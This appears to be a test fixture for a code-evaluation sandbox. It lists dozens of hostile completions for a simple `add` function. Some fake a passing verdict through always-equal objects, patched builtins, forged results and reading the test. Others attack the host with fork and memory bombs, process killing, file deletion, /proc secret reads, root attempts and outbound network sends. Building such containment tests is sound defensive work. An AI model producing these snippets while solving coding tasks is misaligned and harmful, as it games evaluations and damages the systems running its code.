"""A suite of hostile completions for `add(a, b)`: each tries to pass without adding, or to harm the host.

Every attack returns wrong answers (or none) while trying to make the verdict "passed" anyway
(forged results, objects equal to everything, patched builtins, early exits, reading the test or the
dataset, protocol forgery) or to escape (fork and memory bombs, network, killing the harness, files
outside its scratch directory, leftover processes). `{canary}`, `{port}` and `{repo}` (this checkout)
are filled in by the test.
Used by tests/sandbox/test_sandbox_hostile.py and tests/perf/bench_sandbox.py.
"""

from __future__ import annotations

CONTEXT = 'def add(a, b):\n    """Return a + b."""\n'
TEST = """
def check(candidate):
    assert candidate(1, 2) == 3
    assert candidate(-5, 5) == 0
    assert candidate(10, 20) == 30
    assert candidate(2, 2) == 4

check(add)
"""

ATTACKS: dict[str, str] = {
    "os_exit_before_asserts": "import os\nos._exit(0)\ndef add(a, b):\n    return 0\n",
    "posix_exit_in_call": "import posix\ndef add(a, b):\n    posix._exit(0)\n",
    "sys_exit_module": "import sys\nsys.exit(0)\n",
    "system_exit_in_call": "def add(a, b):\n    raise SystemExit(0)\n",
    "always_equal_object": (
        "class AlwaysEqual:\n    def __eq__(self, other):\n        return True\n"
        "    def __ne__(self, other):\n        return False\n    __hash__ = object.__hash__\n"
        "def add(a, b):\n    return AlwaysEqual()\n"
    ),
    "int_subclass_eq": (
        "class I(int):\n    def __eq__(self, o):\n        return True\n"
        "def add(a, b):\n    return I(0)\n"
    ),
    "float_subclass_eq": (
        "class F(float):\n    def __eq__(self, o):\n        return True\n"
        "def add(a, b):\n    return F(0)\n"
    ),
    "str_subclass_eq": (
        "class S(str):\n    def __eq__(self, o):\n        return True\n"
        "def add(a, b):\n    return S('x')\n"
    ),
    "list_subclass_eq": (
        "class L(list):\n    def __eq__(self, o):\n        return True\n"
        "def add(a, b):\n    return L()\n"
    ),
    "patch_builtins": (
        "import builtins\nbuiltins.AssertionError = type('Nope', (Exception,), {{}})\n"
        "builtins.abs = lambda x: 0\nbuiltins.isinstance = lambda *a: True\ndef add(a, b):\n    return 0\n"
    ),
    "patch_sys_modules": (
        "import sys, types\nfake = types.ModuleType('json')\nfake.loads = lambda *a, **k: 3\n"
        "fake.dumps = lambda *a, **k: '3'\nsys.modules['json'] = fake\ndef add(a, b):\n    return 0\n"
    ),
    "frame_walk_forge": (
        "import sys\ndef add(a, b):\n    f = sys._getframe()\n    while f is not None:\n"
        "        for k in list(f.f_locals):\n            if k in ('result', 'status', 'passed'):\n"
        "                f.f_locals[k] = 'passed'\n        f = f.f_back\n    return 0\n"
    ),
    "gc_forge_results": (
        "import gc\nfor o in gc.get_objects():\n    if isinstance(o, list) and o[:1] in (['failed'], ['timed out']):\n"
        "        o[:] = ['passed']\n    if isinstance(o, dict) and 'status' in o:\n        o['status'] = 'passed'\n"
        "def add(a, b):\n    return 0\n"
    ),
    "read_test_from_memory": (
        "import gc, re\ntable = {{}}\nfor o in gc.get_objects():\n    for s in ([o] if isinstance(o, str) else\n"
        "              [v for v in (o.values() if isinstance(o, dict) else []) if isinstance(v, str)]):\n"
        "        for a, b, c in re.findall(r'candidate\\((-?\\d+), (-?\\d+)\\) == (-?\\d+)', s):\n"
        "            table[(int(a), int(b))] = int(c)\n"
        "def add(a, b):\n    return table.get((a, b), 0)\n"
    ),
    "read_test_from_code_objects": (
        "import gc\nconsts = [c for o in gc.get_objects() if hasattr(o, 'co_consts') for c in o.co_consts\n"
        "          if isinstance(c, int)]\ndef add(a, b):\n    return consts[-1] if consts else 0\n"
    ),
    "read_dataset_and_evaluator_files": (
        "import glob, os\nfound = []\nfor pattern in ('/work/**/*.json*', '/root/**/HumanEval*', '/tmp/**/*.py',\n"
        "                '/home/**/*.py', '{repo}/sandbox/*.py'):\n"
        "    found += glob.glob(pattern, recursive=True)\n"
        "def add(a, b):\n    return len(found)\n"
    ),
    "settrace_swap": (
        "import sys\ndef tracer(frame, event, arg):\n    if frame.f_code.co_name == 'check':\n"
        "        frame.f_locals['candidate'] = lambda a, b: a + b\n    return tracer\n"
        "sys.settrace(tracer)\ndef add(a, b):\n    return 0\n"
    ),
    "fork_bomb": (
        "import os\nfor _ in range(40):\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
        "def add(a, b):\n    return 0\n"
    ),
    "fork_daemon_survivor": (
        "import os, time\ntry:\n    if os.fork() == 0:\n        os.setsid()\n        time.sleep(120)\n"
        "        os._exit(0)\nexcept OSError:\n    pass\ndef add(a, b):\n    return 0\n"
    ),
    "thread_survivor": (
        "import threading, time\nthreading.Thread(target=time.sleep, args=(120,)).start()\n"
        "def add(a, b):\n    return 0\n"
    ),
    "subprocess_shell": (
        "import subprocess\ntry:\n    subprocess.Popen(['sh', '-c', 'sleep 120 & touch {canary}/pwned'])\n"
        "except OSError:\n    pass\ndef add(a, b):\n    return 0\n"
    ),
    "os_system": "import os\nos.system('touch {canary}/pwned_system')\ndef add(a, b):\n    return 0\n",
    "memory_bomb": "blob = bytearray(6 * 1024 ** 3)\ndef add(a, b):\n    return 0\n",
    "memory_bomb_in_call": "def add(a, b):\n    return len([0] * (10 ** 10))\n",
    "network_connect": (
        "import socket\nfor host in ('127.0.0.1', '1.1.1.1', '8.8.8.8'):\n    try:\n"
        "        socket.create_connection((host, {port}), timeout=1).sendall(b'leak')\n    except OSError:\n"
        "        pass\ndef add(a, b):\n    return 0\n"
    ),
    "unix_socket_connect": (
        "import socket\ntry:\n    s = socket.socket(socket.AF_UNIX)\n    s.connect('/run/systemd/private')\n"
        "except OSError:\n    pass\ndef add(a, b):\n    return 0\n"
    ),
    "kill_parent_and_init": (
        "import os, signal\nfor pid in (os.getppid(), 1, -1):\n    try:\n        os.kill(pid, signal.SIGKILL)\n"
        "    except OSError:\n        pass\ndef add(a, b):\n    return 0\n"
    ),
    "kill_every_pid": (
        "import os, signal\nfor pid in range(1, 400):\n    try:\n        os.kill(pid, signal.SIGKILL)\n"
        "    except OSError:\n        pass\ndef add(a, b):\n    return 0\n"
    ),
    "ctypes_kill": (
        "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.kill(-1, 9)\nlibc.kill(1, 9)\ndef add(a, b):\n    return 0\n"
    ),
    "write_outside_scratch": (
        "for path in ('{canary}/canary.txt', '/tmp/evk_attack_file', '{repo}/evk_attack_file',\n"
        "             '/root/evk_attack_file', '/usr/evk_attack_file'):\n    try:\n"
        "        open(path, 'w').write('pwned')\n    except OSError:\n        pass\n"
        "def add(a, b):\n    return 0\n"
    ),
    "delete_files": (
        "import os, shutil\nfor path in ('{canary}', '/tmp', '/usr/lib'):\n"
        "    shutil.rmtree(path, ignore_errors=True)\ndef add(a, b):\n    return 0\n"
    ),
    "fill_disk": (
        "n = 0\ntry:\n    while n < 200:\n        with open(f'big{{n}}', 'wb') as f:\n"
        "            f.write(b'x' * (16 * 1024 * 1024))\n        n += 1\nexcept OSError:\n    pass\n"
        "def add(a, b):\n    return 0\n"
    ),
    "read_other_process_memory": (
        "import os\nstolen = []\nfor pid in os.listdir('/proc'):\n    if pid.isdigit():\n        try:\n"
        "            stolen.append(open(f'/proc/{{pid}}/environ', 'rb').read())\n"
        "            stolen.append(open(f'/proc/{{pid}}/mem', 'rb').read(10))\n        except OSError:\n"
        "            pass\ndef add(a, b):\n    return len(stolen)\n"
    ),
    "become_root": (
        "import os\nfor f in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.unshare(0x10000000)):\n"
        "    try:\n        f()\n    except (OSError, AttributeError):\n        pass\n"
        "def add(a, b):\n    return os.getuid()\n"
    ),
    "infinite_loop_module": "while True:\n    pass\n",
    "infinite_loop_in_call": "def add(a, b):\n    while True:\n        pass\n",
    "ignore_signals_and_spin": (
        "import signal\nfor s in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGXCPU):\n"
        "    signal.signal(s, signal.SIG_IGN)\ndef add(a, b):\n    while True:\n        pass\n"
    ),
    "print_passed": (
        "import os, sys\nprint('passed')\nsys.stdout.write('{{\"passed\": true}}')\nos.write(1, b'passed')\n"
        "def add(a, b):\n    return 0\n"
    ),
    "forge_protocol_frames": (
        "import json, os, struct\nfor fd in range(3, 64):\n"
        "    for msg in (['x', 'ok', 3, None, 0.0], ['x', 'ready']):\n"
        "        data = json.dumps(msg).encode()\n        try:\n"
        "            os.write(fd, struct.pack('>I', len(data)) + data)\n"
        "        except OSError:\n            pass\ndef add(a, b):\n    return 0\n"
    ),
    "replace_child_codec": (
        "import sys\ncodec = sys.modules.get('sandbox._codec')\nif codec is not None:\n"
        "    codec.encode = lambda value, lenient=False: 3\ndef add(a, b):\n    return 0\n"
    ),
    "recursion_bomb": "def add(a, b):\n    return add(a, b)\n",
    "huge_output": "def add(a, b):\n    return 'x' * (10 ** 8)\n",
    "raise_name_error_for_fallback": "def add(a, b):\n    raise NameError('check')\n",
    "iterator_result": "def add(a, b):\n    return iter([a + b])\n",
}
